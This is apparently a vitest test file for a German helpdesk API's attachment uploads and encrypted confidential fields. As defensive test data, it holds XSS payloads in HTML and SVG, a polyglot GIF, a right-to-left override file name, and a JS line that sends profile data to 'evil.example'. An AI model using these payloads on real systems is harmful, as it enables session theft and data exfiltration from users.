import { beforeAll, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { messages, ticketMessages as msg, MAX_ATTACHMENT_BYTES, type Ticket, type TicketAttachment, type TicketMessage, type TicketMessagePage, type TicketSecret, type TicketSecretList } from '@hp/contract';
import { createUser, describeEachDatabase, type TestContext } from '../../../test/harness.ts';
import { openStream } from '../../../test/events.ts';
import { files, jobs, ticketAttachments, ticketMessages, ticketSecretOpenings, ticketSecrets } from '../../db/schema/index.ts';
import { removeStalePendingUploads } from './attachments.service.ts';

type User = Awaited<ReturnType<typeof createUser>>;

// Real file headers: the server decides by these bytes, not by the name.
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201c4a0d2b40000000049454e44ae426082', 'hex');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>');
const SVG = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>');
const JS = Buffer.from('fetch("/api/account/profile").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t));\n');
const ELF = Buffer.from('7f454c460201010000000000000000000200', 'hex');

const openTicket = async (ctx: TestContext, who: User) => {
  const res = await ctx.app.inject({ method: 'POST', url: '/api/tickets', headers: who.auth, payload: { title: 'Datei anbei', description: 'Siehe Anhang.', type: 'problem' } });
  expect(res.statusCode, res.body).toBe(201);
  return res.json<Ticket>();
};

const upload = (ctx: TestContext, who: User, ticketId: string, data: Buffer, name: string, staff = false) =>
  ctx.app.inject({
    method: 'POST',
    url: `/api/${staff ? 'staff/' : ''}tickets/${ticketId}/attachments?name=${encodeURIComponent(name)}`,
    headers: { ...who.auth, 'content-type': 'application/octet-stream' },
    payload: data,
  });

async function uploaded(ctx: TestContext, who: User, ticketId: string, data: Buffer, name: string, staff = false) {
  const res = await upload(ctx, who, ticketId, data, name, staff);
  expect(res.statusCode, res.body).toBe(201);
  return res.json<TicketAttachment>();
}

describeEachDatabase('ticket attachments and confidential fields', (ctx) => {
  let alice: User;
  let bob: User;
  let employee: User;
  beforeAll(async () => {
    alice = await createUser(ctx());
    bob = await createUser(ctx());
    employee = await createUser(ctx(), { role: 'employee' });
  });

  it('decides the type by the content: a PNG named .txt is an image, a PDF a PDF, a log file text', async () => {
    const ticket = await openTicket(ctx(), alice);
    const png = await uploaded(ctx(), alice, ticket.id, PNG, 'bildschirmfoto.txt');
    // The saved name gets the type's extension when its own does not fit.
    expect(png).toMatchObject({ contentType: 'image/png', preview: true, size: PNG.length, name: 'bildschirmfoto.txt.png' });
    // An unguessable id: a random (version 4) UUID.
    expect(png.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    expect(await uploaded(ctx(), alice, ticket.id, PDF, 'rechnung.png')).toMatchObject({ contentType: 'application/pdf', preview: false, name: 'rechnung.png.pdf' });
    expect(await uploaded(ctx(), alice, ticket.id, Buffer.from('2026-11-23 12:00:01 kernel: eth0 link down\n'), 'syslog.log')).toMatchObject({ contentType: 'text/plain', preview: false, name: 'syslog.log' });
    // UTF-16 with a byte order mark, as PowerShell writes logs.
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Fehler 0x80070005\r\n', 'utf16le')]);
    expect(await uploaded(ctx(), alice, ticket.id, utf16, 'ps.log')).toMatchObject({ contentType: 'text/plain', name: 'ps.log' });
  });

  it('makes file names harmless: no runnable extension, no right-to-left trick, extension kept when cut', async () => {
    const ticket = await openTicket(ctx(), alice);
    const cases: [Buffer, string, string][] = [
      [Buffer.from('@echo off\r\ncalc.exe\r\n'), 'Fehlerprotokoll.bat', 'Fehlerprotokoll.bat.txt'],
      [Buffer.concat([Buffer.from('GIF89a'), Buffer.from('<script>alert(document.domain)</script>')]), 'bild.html', 'bild.html.gif'],
      [PDF, 'rechnung\u202Efdp.bat', 'rechnung_fdp.bat.pdf'],
      [PDF, '\u200B\u200B', 'datei.pdf'],
      [Buffer.from('x'), `${'a'.repeat(119)}😀😀.txt`, `${'a'.repeat(116)}.txt`],
      [Buffer.from('x'), `${'b'.repeat(200)}.log`, `${'b'.repeat(116)}.log`],
    ];
    for (const [data, name, expected] of cases) {
      const res = await upload(ctx(), alice, ticket.id, data, name);
      expect(res.statusCode, name).toBe(201);
      expect(res.json<TicketAttachment>().name, name).toBe(expected);
    }
  });

  it('refuses HTML, SVG, executables, empty and oversized files with German messages and stores nothing', async () => {
    const ticket = await openTicket(ctx(), alice);
    const before = (await ctx().database.db.select({ id: files.id }).from(files)).length;
    for (const [data, name] of [[HTML, 'foto.png'], [SVG, 'logo.svg'], [ELF, 'tool.pdf']] as const) {
      const res = await upload(ctx(), alice, ticket.id, data, name);
      expect(res.statusCode, name).toBe(415);
      expect(res.json().error.message).toBe(msg.attachmentType);
    }
    const empty = await upload(ctx(), alice, ticket.id, Buffer.alloc(0), 'leer.txt');
    expect(empty.statusCode).toBe(400);
    expect(empty.json().error.message).toBe(msg.attachmentEmpty);
    const big = await upload(ctx(), alice, ticket.id, Buffer.alloc(MAX_ATTACHMENT_BYTES + 1, 0x61), 'gross.txt');
    expect(big.statusCode).toBe(413);
    expect(big.json().error.message).toBe(msg.attachmentTooLarge);
    const json = await ctx().app.inject({ method: 'POST', url: `/api/tickets/${ticket.id}/attachments`, headers: alice.auth, payload: { data: 'x' } });
    expect(json.statusCode).toBe(415);
    expect(json.json().error.message).toBe(messages.unsupportedMediaType);
    expect((await ctx().database.db.select({ id: files.id }).from(files)).length).toBe(before);
  });

  it('sends files with a message; the chat lists them; downloads are attachments with nosniff and a sandbox', async () => {
    const ticket = await openTicket(ctx(), alice);
    const png = await uploaded(ctx(), alice, ticket.id, PNG, 'fehler "1".png');
    const js = await uploaded(ctx(), alice, ticket.id, JS, 'skript.js');
    expect(js.name).toBe('skript.js.txt');
    expect(js.contentType).toBe('text/plain');
    const sent = await ctx().app.inject({ method: 'POST', url: `/api/tickets/${ticket.id}/messages`, headers: alice.auth, payload: { body: '', attachmentIds: [png.id, js.id] } });
    expect(sent.statusCode, sent.body).toBe(201);
    expect(sent.json<TicketMessage>().attachments.map((a) => a.id)).toEqual([png.id, js.id]);
    const page = await ctx().app.inject({ method: 'GET', url: `/api/staff/tickets/${ticket.id}/messages`, headers: employee.auth });
    expect(page.json<TicketMessagePage>().items[0]!.attachments.map((a) => a.name)).toEqual(['fehler _1_.png', 'skript.js.txt']);

    const file = await ctx().app.inject({ method: 'GET', url: `/api/tickets/${ticket.id}/attachments/${js.id}`, headers: alice.auth });
    expect(file.statusCode).toBe(200);
    expect(file.rawPayload.equals(JS)).toBe(true);
    // The JS file can never run as a script of this origin (GHSA-fffc-phh8-5h4v): plain text, nosniff,
    // a download, sandboxed, and only with the bearer token a <script src> cannot send.
    expect(file.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-disposition']).toMatch(/^attachment; filename="skript\.js\.txt"/);
    expect(file.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    expect(file.headers['cache-control']).toBe('private, no-store');
    const anonymous = await ctx().app.inject({ method: 'GET', url: `/api/tickets/${ticket.id}/attachments/${js.id}` });
    expect(anonymous.statusCode).toBe(401);
    const image = await ctx().app.inject({ method: 'GET', url: `/api/staff/tickets/${ticket.id}/attachments/${png.id}`, headers: employee.auth });
    expect(image.headers['content-type']).toBe('image/png');
    expect(image.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent('fehler _1_.png')}`);
  });

  it("never gives one customer another's files, by URL or by id in a body, and sends nothing half", async () => {
    const ticket = await openTicket(ctx(), alice);
    const bobsTicket = await openTicket(ctx(), bob);
    const mine = await uploaded(ctx(), alice, ticket.id, PNG, 'a.png');
    // Download of a pending upload: only its uploader; not even staff see a file the customer never sent (issue 21).
    expect((await ctx().app.inject({ method: 'GET', url: `/api/tickets/${ticket.id}/attachments/${mine.id}`, headers: alice.auth })).statusCode).toBe(200);
    const staffEarly = await ctx().app.inject({ method: 'GET', url: `/api/staff/tickets/${ticket.id}/attachments/${mine.id}`, headers: employee.auth });
    expect(staffEarly.statusCode).toBe(404);
    expect(staffEarly.body).not.toContain('PNG');
    for (const url of [`/api/tickets/${ticket.id}/attachments/${mine.id}`, `/api/tickets/${bobsTicket.id}/attachments/${mine.id}`]) {
      const res = await ctx().app.inject({ method: 'GET', url, headers: bob.auth });
      expect(res.statusCode, url).toBe(404);
      expect(res.body).not.toContain('PNG');
    }
    const upToAlice = await upload(ctx(), bob, ticket.id, PNG, 'b.png');
    expect(upToAlice.statusCode).toBe(404);
    // Bob names Alice's upload in his own message: 404, and no message of Bob's is left behind.
    const steal = await ctx().app.inject({ method: 'POST', url: `/api/tickets/${bobsTicket.id}/messages`, headers: bob.auth, payload: { body: 'meins', attachmentIds: [mine.id] } });
    expect(steal.statusCode).toBe(404);
    expect(steal.json().error.message).toBe(msg.attachmentNotFound);
    expect(await ctx().database.db.select().from(ticketMessages).where(eq(ticketMessages.ticketId, bobsTicket.id))).toHaveLength(0);
    const [row] = await ctx().database.db.select().from(ticketAttachments).where(eq(ticketAttachments.fileId, mine.id));
    expect(row!.messageId).toBeNull();
    // A file sent once cannot be sent again.
    expect((await ctx().app.inject({ method: 'POST', url: `/api/tickets/${ticket.id}/messages`, headers: alice.auth, payload: { body: 'eins', attachmentIds: [mine.id] } })).statusCode).toBe(201);
    // Once sent, staff may open it.
    expect((await ctx().app.inject({ method: 'GET', url: `/api/staff/tickets/${ticket.id}/attachments/${mine.id}`, headers: employee.auth })).statusCode).toBe(200);
    expect((await ctx().app.inject({ method: 'POST', url: `/api/tickets/${ticket.id}/messages`, headers: alice.auth, payload: { body: 'zwei', attachmentIds: [mine.id] } })).statusCode).toBe(404);
    // At most five per message.
    const six = await Promise.all(Array.from({ length: 6 }, (_, i) => uploaded(ctx(), alice, ticket.id, PNG, `${i}.png`)));
    const tooMany = await ctx().app.inject({ method: 'POST', url: `/api/tickets/${ticket.id}/messages`, headers: alice.auth, payload: { body: 'viele', attachmentIds: six.map((a) => a.id) } });
    expect(tooMany.statusCode).toBe(400);
    expect(tooMany.json().error.message).toBe(msg.tooManyAttachments);
    const nothing = await ctx().app.inject({ method: 'POST', url: `/api/tickets/${ticket.id}/messages`, headers: alice.auth, payload: { body: '  ', attachmentIds: [] } });
    expect(nothing.json().error.message).toBe(msg.messageRequired);
  });

  it("keeps an internal note's file from the customer; staff answers with only a file mail a German line", async () => {
    const ticket = await openTicket(ctx(), alice);
    const noteFile = await uploaded(ctx(), employee, ticket.id, PDF, 'intern.pdf', true);
    const note = await ctx().app.inject({ method: 'POST', url: `/api/staff/tickets/${ticket.id}/messages`, headers: employee.auth, payload: { body: 'Notiz', internal: true, attachmentIds: [noteFile.id] } });
    expect(note.statusCode).toBe(201);
    const asCustomer = await ctx().app.inject({ method: 'GET', url: `/api/tickets/${ticket.id}/attachments/${noteFile.id}`, headers: alice.auth });
    expect(asCustomer.statusCode).toBe(404);
    expect(JSON.stringify((await ctx().app.inject({ method: 'GET', url: `/api/tickets/${ticket.id}/messages`, headers: alice.auth })).json())).not.toContain(noteFile.id);
    expect((await ctx().app.inject({ method: 'GET', url: `/api/staff/tickets/${ticket.id}/attachments/${noteFile.id}`, headers: employee.auth })).statusCode).toBe(200);

    const answerFile = await uploaded(ctx(), employee, ticket.id, PNG, 'anleitung.png', true);
    const answer = await ctx().app.inject({ method: 'POST', url: `/api/staff/tickets/${ticket.id}/messages`, headers: employee.auth, payload: { body: '', attachmentIds: [answerFile.id] } });
    expect(answer.statusCode).toBe(201);
    expect((await ctx().app.inject({ method: 'GET', url: `/api/tickets/${ticket.id}/attachments/${answerFile.id}`, headers: alice.auth })).statusCode).toBe(200);
    const mails = JSON.stringify(await ctx().database.db.select({ payload: jobs.payload }).from(jobs));
    expect(mails).toContain('Der Support hat Ihnen eine Datei gesendet.');
    expect(mails).not.toContain(answerFile.id);
  });

  it('a 10 MB text log (the limit) is stored, and the event loop is never blocked for long meanwhile (issue 21, item 1)', { timeout: 120_000 }, async () => {
    const ticket = await openTicket(ctx(), alice);
    const line = '2026-11-27 12:00:01 app[4711]: request handled in 12 ms, status 200, bytes 5120\n';
    const log = Buffer.from(line.repeat(Math.ceil(MAX_ATTACHMENT_BYTES / line.length))).subarray(0, MAX_ATTACHMENT_BYTES);
    // Every other request of the instance waits while the event loop is blocked: a 20-ms ticker measures
    // the longest gap between its ticks (the gap until the upload's answer included).
    let last = performance.now();
    let longestMs = 0;
    const ticker = setInterval(() => {
      const now = performance.now();
      longestMs = Math.max(longestMs, now - last);
      last = now;
    }, 20);
    const res = await upload(ctx(), alice, ticket.id, log, 'app.log');
    clearInterval(ticker);
    longestMs = Math.max(longestMs, performance.now() - last);
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json<TicketAttachment>()).toMatchObject({ contentType: 'text/plain', size: MAX_ATTACHMENT_BYTES });
    // Walking the bytes as an object blocked it for 14 s (quiet machine) to 33 s here. On PostgreSQL nothing
    // blocks for long now. PGlite runs its insert of the 10 MB inside this process (WebAssembly: about 1.8 s
    // on a quiet machine, 16 s seen on Node 24 under load), so there the check is input.test.ts's.
    if (ctx().kind === 'postgres') expect(longestMs, `the event loop was blocked for ${Math.round(longestMs)} ms at once`).toBeLessThan(1_000);
    // And requests are answered normally afterwards.
    expect((await ctx().app.inject({ method: 'GET', url: '/api/status' })).statusCode).toBe(200);
  });

  it('removes uploads nobody sent after a day, with their bytes', async () => {
    const ticket = await openTicket(ctx(), alice);
    const stale = await uploaded(ctx(), alice, ticket.id, PNG, 'vergessen.png');
    const fresh = await uploaded(ctx(), alice, ticket.id, PNG, 'gleich.png');
    await ctx().database.db.update(ticketAttachments).set({ createdAt: new Date(Date.now() - 25 * 3600_000) }).where(eq(ticketAttachments.fileId, stale.id));
    expect(await removeStalePendingUploads(ctx().database.db)).toBeGreaterThanOrEqual(1);
    expect(await ctx().database.db.select().from(files).where(eq(files.id, stale.id))).toHaveLength(0);
    expect(await ctx().database.db.select().from(files).where(eq(files.id, fresh.id))).toHaveLength(1);
  });

  it('confidential fields: encrypted at rest, the value only for staff through a logged opening, wiped on close', async () => {
    const baseUrl = await ctx().app.listen({ port: 0, host: '127.0.0.1' });
    const ticket = await openTicket(ctx(), alice);
    const SECRET = 'Root-PW: k7#Vq9!zT2 \n-----BEGIN OPENSSH PRIVATE KEY-----\n\tb3BlbnNzaC1rZXktdjEAAAA=\n';
    const customerStream = await openStream(baseUrl, alice.token);
    const staffStream = await openStream(baseUrl, employee.token);
    try {
      const added = await ctx().app.inject({ method: 'POST', url: `/api/tickets/${ticket.id}/secrets`, headers: alice.auth, payload: { label: ' Root-Passwort ', value: SECRET } });
      expect(added.statusCode, added.body).toBe(201);
      const secret = added.json<TicketSecret>();
      expect(secret).toMatchObject({ label: 'Root-Passwort', wiped: false, openings: [] });
      expect(added.body).not.toContain('k7#Vq9');
      const [stored] = await ctx().database.db.select().from(ticketSecrets).where(eq(ticketSecrets.id, secret.id));
      expect(stored!.sealed).not.toContain('k7#Vq9');

      // Lists never carry the value; another customer gets 404; customers cannot open it.
      for (const [who, url] of [[alice, `/api/tickets/${ticket.id}/secrets`], [employee, `/api/staff/tickets/${ticket.id}/secrets`]] as const) {
        const res = await ctx().app.inject({ method: 'GET', url, headers: who.auth });
        expect(res.statusCode).toBe(200);
        expect(res.body).not.toContain('k7#Vq9');
      }
      expect((await ctx().app.inject({ method: 'GET', url: `/api/tickets/${ticket.id}/secrets`, headers: bob.auth })).statusCode).toBe(404);
      expect((await ctx().app.inject({ method: 'POST', url: `/api/tickets/${ticket.id}/secrets`, headers: bob.auth, payload: { label: 'x', value: 'y' } })).statusCode).toBe(404);
      expect((await ctx().app.inject({ method: 'POST', url: `/api/staff/tickets/${ticket.id}/secrets/${secret.id}/open`, headers: alice.auth })).statusCode).toBe(403);

      const opened = await ctx().app.inject({ method: 'POST', url: `/api/staff/tickets/${ticket.id}/secrets/${secret.id}/open`, headers: employee.auth });
      expect(opened.statusCode).toBe(200);
      expect(opened.json()).toEqual({ value: SECRET });
      expect(opened.headers['cache-control']).toBe('no-store');
      const log = await ctx().app.inject({ method: 'GET', url: `/api/staff/tickets/${ticket.id}/secrets`, headers: employee.auth });
      expect(log.json<TicketSecretList>().secrets[0]!.openings).toEqual([{ name: employee.user.username, openedAt: expect.any(String) }]);
      const own = await ctx().app.inject({ method: 'GET', url: `/api/tickets/${ticket.id}/secrets`, headers: alice.auth });
      expect(own.json<TicketSecretList>().secrets[0]!.openings).toEqual([]);

      // Close: the value is gone for good; opening it now is a German 409, and nothing was logged for it.
      expect((await ctx().app.inject({ method: 'POST', url: `/api/tickets/${ticket.id}/close`, headers: alice.auth })).statusCode).toBe(200);
      const [wiped] = await ctx().database.db.select().from(ticketSecrets).where(eq(ticketSecrets.id, secret.id));
      expect(wiped!.sealed).toBeNull();
      expect(wiped!.wipedAt).not.toBeNull();
      const late = await ctx().app.inject({ method: 'POST', url: `/api/staff/tickets/${ticket.id}/secrets/${secret.id}/open`, headers: employee.auth });
      expect(late.statusCode).toBe(409);
      expect(late.json().error.message).toBe(msg.secretWiped);
      expect(await ctx().database.db.select().from(ticketSecretOpenings).where(eq(ticketSecretOpenings.secretId, secret.id))).toHaveLength(1);
      expect((await ctx().app.inject({ method: 'GET', url: `/api/tickets/${ticket.id}/secrets`, headers: alice.auth })).json<TicketSecretList>().secrets[0]!.wiped).toBe(true);
      const closedAdd = await ctx().app.inject({ method: 'POST', url: `/api/tickets/${ticket.id}/secrets`, headers: alice.auth, payload: { label: 'Noch eins', value: 'x' } });
      expect(closedAdd.statusCode).toBe(409);

      // Never mailed, never in the event stream.
      expect(await customerStream.waitFor(() => customerStream.raw.includes(ticket.id), 2000)).toBe(true);
      await new Promise((r) => setTimeout(r, 200));
      for (const raw of [customerStream.raw, staffStream.raw, JSON.stringify(await ctx().database.db.select({ payload: jobs.payload }).from(jobs))]) {
        expect(raw).not.toContain('k7#Vq9');
      }
    } finally {
      await Promise.all([customerStream.close(), staffStream.close()]);
    }
  });

  it('refuses empty and overlong confidential fields in German', async () => {
    const ticket = await openTicket(ctx(), alice);
    const cases: [Record<string, unknown>, string][] = [
      [{ label: '  ', value: 'x' }, msg.secretLabelRequired],
      [{ label: 'PW', value: '' }, msg.secretValueRequired],
      [{ label: 'x'.repeat(81), value: 'x' }, msg.secretLabelTooLong],
      [{ label: 'PW', value: 'x'.repeat(4001) }, msg.secretValueTooLong],
    ];
    for (const [payload, message] of cases) {
      const res = await ctx().app.inject({ method: 'POST', url: `/api/tickets/${ticket.id}/secrets`, headers: alice.auth, payload });
      expect(res.statusCode).toBe(400);
      expect(res.json().error.message).toBe(message);
    }
  });
});
